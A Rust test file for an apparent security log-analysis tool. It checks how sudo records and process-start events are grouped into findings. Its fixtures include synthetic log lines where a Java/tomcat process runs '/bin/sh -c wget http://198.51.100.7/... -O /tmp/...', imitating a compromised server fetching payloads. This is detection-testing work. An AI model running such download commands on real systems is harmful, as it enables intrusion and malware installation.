use casebook_table::{blocks, expect_file};

use super::*;
use crate::analyst::series::tests::{scene, told};

fn found(text: &str) -> (Case, Vec<FindingDraft>, String) {
    let scene = scene(text, |_| Vec::new());
    let all = findings(&scene.0, &scene.1);
    let told = told(&scene, &all);
    (scene.0, all, told)
}

#[test]
fn each_scene_has_the_findings_on_file() {
    blocks(&expect_file!["cases.txt"], |_, text| found(text).2);
}

/// Three commands in one second are three, whatever sessions are between them.
#[test]
fn each_command_of_sudo_is_grouped_with_its_own_session() {
    let record =
        |n: usize| {
            let ran = ["/bin/true", "/bin/evil", "/bin/id"][(n - 2) / 2];
            match n % 2 {
            0 => format!("> mara COMMAND={ran}\ntarget_user = root\nuser = mara\ncommand = {ran}"),
            _ => "> session opened for user root by mara\nservice = sudo\noutcome = opened\nuser = root\nby_user = mara"
                .to_owned(),
        }
        };
    let text = |n| format!("{n} 2026-03-01T10:00:00.{n}Z\n{}\nhost = a\nprogram = sudo\n", record(n));
    let (case, ..) = found(&(2..8).map(text).collect::<String>());
    let picks = case.recs.iter().map(|rec| Pick { rec, kin: Kin::Near, rank: 1, end: false }).collect();
    let commands = |g: &Group<'_>| g.0.iter().filter(|p| p.rec.class() == Class::ProcessStart).count();
    assert_eq!(group(picks, false).iter().map(commands).filter(|n| *n > 0).collect::<Vec<_>>(), [1, 1, 1]);
}

#[test]
fn findings_about_a_hundred_similar_commands_are_bounded() {
    let start = |n: u8| {
        let word = char::from(b'a' + n % 26).to_string().repeat(4 + usize::from(n));
        format!(
            "{n} 2026-03-01T10:00:{n:02}Z\nevent = process_start\nhost = a\nppid = 6\nuser = tomcat\nexe = /bin/sh\n\
             command_line = /bin/sh -c wget http://198.51.100.7/{word} -O /tmp/{word}\nparent_exe = /usr/bin/java\n\
             parent_command_line = java -jar a.jar\n"
        )
    };
    let (_, all, _) = found(&(0..60).map(start).collect::<String>());
    assert!(all.len() <= 2 * ONE_BY_ONE, "{}", all.len());
}
